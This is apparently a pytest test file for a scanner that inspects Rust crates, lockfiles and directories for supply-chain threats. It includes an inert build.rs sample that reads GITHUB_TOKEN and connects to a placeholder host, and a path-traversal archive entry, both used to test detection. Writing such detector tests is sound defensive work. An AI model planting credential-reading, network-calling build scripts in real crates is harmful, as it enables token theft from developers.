"""Loading what inspect is pointed at: .crate files, directories, NAME@VERSION, Cargo.lock."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer

from cratewatch.inspect.model import Inspected, NotInspected, Outcome, Severity
from cratewatch.inspect.source import InvalidCrateInput, from_directory, split_crate_dirname
from cratewatch.inspect.targets import inspect_lockfile, inspect_spec, parse_spec
from cratewatch.lockfile import parse_lockfile
from cratewatch.registry.crates import CrateFetcher
from cratewatch.registry.index import Index, open_index
from tests.crates import index_line, make_crate, manifest, sha256, write_index
from tests.test_archive import Entry
from tests.test_archive import make_crate as make_raw_crate

EXFIL = (
    'fn main() { let t = std::env::var("GITHUB_TOKEN");'
    ' let _ = std::net::TcpStream::connect("h:1"); }'
)


def _report(outcome: Outcome) -> Inspected:
    assert isinstance(outcome, Inspected), outcome
    return outcome


def _no_registry() -> Index:
    raise AssertionError("the registry must not be used")


def _no_fetcher() -> CrateFetcher:
    raise AssertionError("nothing must be downloaded")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("serde-1.0.0", ("serde", "1.0.0")),
        ("foo-bar-2d-1.0.0-rc.1+build", ("foo-bar-2d", "1.0.0-rc.1+build")),
        ("a-0.1.0", ("a", "0.1.0")),
        ("no-version", None),
        ("x-1.0", None),
    ],
)
def test_split_crate_dirname(text: str, expected: tuple[str, str] | None) -> None:
    assert split_crate_dirname(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("serde@1.0.0", ("serde", "1.0.0")),
        ("a_b-c@0.1.0-rc.1", ("a_b-c", "0.1.0-rc.1")),
        ("serde", None),
        ("@1.0.0", None),
        ("serde@latest", None),
    ],
)
def test_parse_spec(text: str, expected: tuple[str, str] | None) -> None:
    assert parse_spec(text) == expected


def test_crate_file_is_read_in_memory(tmp_path: Path) -> None:
    path = tmp_path / "evil-0.1.0.crate"
    path.write_bytes(
        make_crate("evil", "0.1.0", {"Cargo.toml": manifest("evil", "0.1.0"), "build.rs": EXFIL})
    )
    report = _report(inspect_spec(str(path), fetcher=_no_fetcher, index=_no_registry)).report
    assert (report.name, report.version, report.build_script) == ("evil", "0.1.0", "build.rs")
    assert report.max_severity is Severity.CRITICAL
    assert sorted(p.name for p in tmp_path.iterdir()) == ["evil-0.1.0.crate"]  # nothing unpacked


def test_hostile_crate_file_is_a_critical_finding(tmp_path: Path) -> None:
    path = tmp_path / "evil-0.1.0.crate"
    path.write_bytes(make_raw_crate([Entry("evil-0.1.0/../../x", b"x")]))
    report = _report(inspect_spec(str(path), fetcher=_no_fetcher, index=_no_registry)).report
    (signal,) = report.signals
    assert (signal.id, signal.severity) == ("archive.unsafe", Severity.CRITICAL)
    assert signal.excerpt == f"{path}: member 'evil-0.1.0/../../x': '..' in path"


def test_crate_file_without_a_version_in_its_name(tmp_path: Path) -> None:
    path = tmp_path / "download.crate"
    path.write_bytes(make_crate("x", "1.0.0", {}))
    with pytest.raises(InvalidCrateInput) as caught:
        inspect_spec(str(path), fetcher=_no_fetcher, index=_no_registry)
    assert str(caught.value) == (
        f"{path}: cannot tell the crate name and version; expected a file named NAME-VERSION.crate"
    )


def test_neither_path_nor_spec() -> None:
    with pytest.raises(InvalidCrateInput) as caught:
        inspect_spec("no/such/thing", fetcher=_no_fetcher, index=_no_registry)
    assert str(caught.value) == (
        "no/such/thing: no such file or directory, and not NAME@VERSION (e.g. serde@1.0.200)"
    )


def test_directories_never_follow_links(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.rs").write_text('fn f() { let _ = std::net::TcpStream::connect("h:1"); }')
    crate = tmp_path / "demo-0.1.0"
    (crate / "src").mkdir(parents=True)
    (crate / "Cargo.toml").write_text(manifest("demo", "0.1.0"))
    (crate / "src" / "lib.rs").write_text("pub fn f() {}")
    os.symlink(outside, crate / "build")
    os.symlink(outside / "secret.rs", crate / "build.rs")
    source = from_directory(crate)
    assert sorted(source.files) == ["Cargo.toml", "src/lib.rs"]
    assert sorted((link.path, link.inside_root) for link in source.links) == [
        ("build", False),
        ("build.rs", False),
    ]
    report = _report(inspect_spec(str(crate), fetcher=_no_fetcher, index=_no_registry)).report
    assert [(s.id, s.severity) for s in report.signals] == [
        ("archive.link", Severity.MEDIUM),
        ("archive.link", Severity.MEDIUM),
    ]


@pytest.fixture
def registry(httpserver: HTTPServer, tmp_path: Path) -> tuple[Path, bytes]:
    data = make_crate("evil", "0.1.0", {"Cargo.toml": manifest("evil", "0.1.0"), "build.rs": EXFIL})
    httpserver.expect_request("/dl/evil/evil-0.1.0.crate").respond_with_data(data)
    httpserver.expect_request("/dl/evil/evil-0.2.0.crate").respond_with_data(b"tampered")
    index = write_index(
        tmp_path / "index",
        httpserver.url_for("/dl/{crate}/{crate}-{version}.crate"),
        {
            "evil": [
                index_line("evil", "0.1.0", sha256(data)),
                index_line("evil", "0.2.0", sha256(data)),
            ]
        },
    )
    return index, data


def test_name_at_version_is_downloaded_and_verified(
    registry: tuple[Path, bytes], tmp_path: Path
) -> None:
    index, data = registry
    opened = open_index(str(index))
    with CrateFetcher(tmp_path / "cache", dl=opened.config().dl) as fetcher:
        report = _report(
            inspect_spec("evil@0.1.0", fetcher=lambda: fetcher, index=lambda: opened)
        ).report
    assert report.checksum == f"sha256 {sha256(data)} (verified)"
    assert report.origin.endswith("/dl/evil/evil-0.1.0.crate")
    assert report.max_severity is Severity.CRITICAL
    assert (tmp_path / "cache" / "crates" / "evil-0.1.0.crate").read_bytes() == data


def test_name_at_version_with_a_bad_checksum(registry: tuple[Path, bytes], tmp_path: Path) -> None:
    index, _ = registry
    opened = open_index(str(index))
    with CrateFetcher(tmp_path / "cache", dl=opened.config().dl) as fetcher:
        report = _report(
            inspect_spec("evil@0.2.0", fetcher=lambda: fetcher, index=lambda: opened)
        ).report
    (signal,) = report.signals
    assert (signal.id, signal.severity) == ("archive.checksum-mismatch", Severity.CRITICAL)
    assert not (tmp_path / "cache" / "crates" / "evil-0.2.0.crate").exists()


def test_unknown_version(registry: tuple[Path, bytes], tmp_path: Path) -> None:
    index, _ = registry
    opened = open_index(str(index))
    with pytest.raises(Exception, match=r"^evil@9\.9\.9: no such version in "):
        inspect_spec("evil@9.9.9", fetcher=_no_fetcher, index=lambda: opened)


LOCK = """version = 4

[[package]]
name = "app"
version = "0.1.0"
dependencies = ["cached", "unpacked", "tampered", "fetched", "gitdep"]

[[package]]
name = "cached"
version = "1.0.0"
source = "registry+https://github.com/rust-lang/crates.io-index"
checksum = "{cached}"

[[package]]
name = "unpacked"
version = "2.0.0"
source = "registry+https://github.com/rust-lang/crates.io-index"
checksum = "{unpacked}"

[[package]]
name = "tampered"
version = "3.0.0"
source = "registry+https://github.com/rust-lang/crates.io-index"
checksum = "{tampered}"

[[package]]
name = "fetched"
version = "4.0.0"
source = "registry+https://github.com/rust-lang/crates.io-index"
checksum = "{fetched}"

[[package]]
name = "gitdep"
version = "0.5.0"
source = "git+https://github.com/example/gitdep#0123456789abcdef0123456789abcdef01234567"
"""


def test_lockfile_prefers_the_cargo_cache(httpserver: HTTPServer, tmp_path: Path) -> None:
    crates = {
        name: make_crate(
            name, version, {"Cargo.toml": manifest(name, version), "build.rs": "fn main() {}"}
        )
        for name, version in (("cached", "1.0.0"), ("tampered", "3.0.0"), ("fetched", "4.0.0"))
    }
    home = tmp_path / "cargo"
    cache = home / "registry" / "cache" / "index.crates.io-6f17d22bba15001f"
    cache.mkdir(parents=True)
    (cache / "cached-1.0.0.crate").write_bytes(crates["cached"])
    (cache / "tampered-3.0.0.crate").write_bytes(b"not what the lockfile says")
    src = home / "registry" / "src" / "index.crates.io-6f17d22bba15001f" / "unpacked-2.0.0"
    src.mkdir(parents=True)
    (src / "Cargo.toml").write_text(manifest("unpacked", "2.0.0"))
    (src / "build.rs").write_text(EXFIL)
    httpserver.expect_oneshot_request("/dl/fetched/fetched-4.0.0.crate").respond_with_data(
        crates["fetched"]
    )
    lock = parse_lockfile(
        LOCK.format(
            cached=sha256(crates["cached"]),
            unpacked="0" * 64,
            tampered=sha256(crates["tampered"]),
            fetched=sha256(crates["fetched"]),
        )
    )
    dl = httpserver.url_for("/dl/{crate}/{crate}-{version}.crate")
    with CrateFetcher(tmp_path / "cache", dl=dl) as fetcher:
        outcomes = list(inspect_lockfile(lock, cargo_home=home, fetcher=lambda: fetcher))
    by_name = {o.report.name if isinstance(o, Inspected) else o.name: o for o in outcomes}
    assert list(by_name) == ["cached", "unpacked", "tampered", "fetched", "gitdep"]
    cached = _report(by_name["cached"]).report
    assert cached.checksum == f"sha256 {sha256(crates['cached'])} (verified against Cargo.lock)"
    assert cached.max_severity is Severity.INFO
    unpacked = _report(by_name["unpacked"]).report
    assert unpacked.checksum == "unverified (cargo's unpacked source cache)"
    assert unpacked.max_severity is Severity.CRITICAL
    tampered = _report(by_name["tampered"]).report
    assert [s.id for s in tampered.signals] == ["archive.checksum-mismatch"]
    fetched = _report(by_name["fetched"]).report
    assert fetched.checksum == f"sha256 {sha256(crates['fetched'])} (verified)"
    assert by_name["gitdep"] == NotInspected(
        name="gitdep", version="0.5.0", reason="git source; inspect its checkout directory"
    )
